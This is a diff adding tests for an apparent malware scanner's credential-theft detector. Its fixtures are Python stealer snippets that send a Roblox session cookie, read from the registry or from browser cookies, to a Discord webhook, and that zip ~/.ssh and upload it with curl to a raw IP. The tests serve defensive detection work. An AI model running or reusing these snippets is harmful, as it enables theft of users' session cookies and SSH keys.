@@ -45,3 +45,32 @@ describe('credential-theft: keyloggers', () => {
     expect(hits('credential-theft', { 'pkg/hotkeys.py': src })).toEqual([]);
   });
 });
+
+describe('credential-theft: stores read through an API, not a file path', () => {
+  const HOOK = 'https://discord.com/api/webhooks/997950009574166528/IxAr7BChMSaLwK6G_8s46eGcsWAC0G1x43';
+  it('flags a session cookie read from the Windows registry and posted to a webhook (critical)', () => {
+    const src = `def grab():\n    import requests\n    from winreg import OpenKey, HKEY_CURRENT_USER, EnumValue\n    key = OpenKey(HKEY_CURRENT_USER, r"SOFTWARE\\Roblox\\RobloxStudioBrowser\\roblox.com")\n    name, value, kind = EnumValue(key, 0)\n    if name == ".ROBLOSECURITY":\n        requests.post("${HOOK}", json={"content": value})\n`;
+    expect(maxSev(hits('credential-theft', { 'pkg/grab.py': src }))).toBe('critical');
+  });
+  it('flags browser cookies read with browser_cookie3 and posted to a webhook (critical)', () => {
+    const src = `import browser_cookie3, requests\ndef grab():\n    for c in browser_cookie3.firefox(domain_name='roblox.com'):\n        if c.name == '.ROBLOSECURITY':\n            requests.post("${HOOK}", data={'content': c.value})\n`;
+    expect(maxSev(hits('credential-theft', { 'pkg/grab.py': src }))).toBe('critical');
+  });
+  it('does not flag a registry lookup of an install path next to network code', () => {
+    const src = `import winreg, requests\ndef sdk_path():\n    k = winreg.OpenKey(winreg.HKEY_LOCAL_MACHINE, r"SOFTWARE\\Vendor\\SDK")\n    return winreg.QueryValueEx(k, "InstallDir")[0]\ndef latest():\n    return requests.get("https://vendor.example.com/latest.json").json()\n`;
+    expect(hits('credential-theft', { 'pkg/sdk.py': src })).toEqual([]);
+  });
+});
+
+describe('credential-theft: a store uploaded through the file\'s own process wrapper', () => {
+  it('flags ~/.ssh copied, zipped and uploaded by curl to a raw IP through a wrapper (high or more)', () => {
+    const src = `import os, shutil, subprocess, getpass\ndef subprocess_popen(statement):\n    p = subprocess.Popen(statement, shell=True, stdout=subprocess.PIPE)\n    return p.stdout.read()\ndef steal():\n    ssh = '/home/' + getpass.getuser() + '/.ssh'\n    shutil.copytree(ssh, 'out/ssh')\n    zipname = shutil.make_archive('out', 'zip', 'out')\n    command = "curl -k -F \\"file=@" + zipname + "\\" \\"https://54.254.189.27/api/v1/file/upload\\" > /dev/null 2>&1"\n    subprocess_popen(command)\n`;
+    const f = hits('credential-theft', { 'pkg/api.py': src });
+    expect(['high', 'critical']).toContain(maxSev(f));
+    expect(f[0].message).toMatch(/uses the network/);
+  });
+  it('keeps ~/.ssh read by an SSH client library that talks to a configured host below high', () => {
+    const src = `import os, socket\ndef load_key():\n    with open(os.path.expanduser('~/.ssh/id_rsa')) as f:\n        return f.read()\ndef connect(host):\n    s = socket.create_connection((host, 22))\n    return s\n`;
+    expect(['none', 'low', 'medium']).toContain(maxSev(hits('credential-theft', { 'pkg/client.py': src })));
+  });
+});
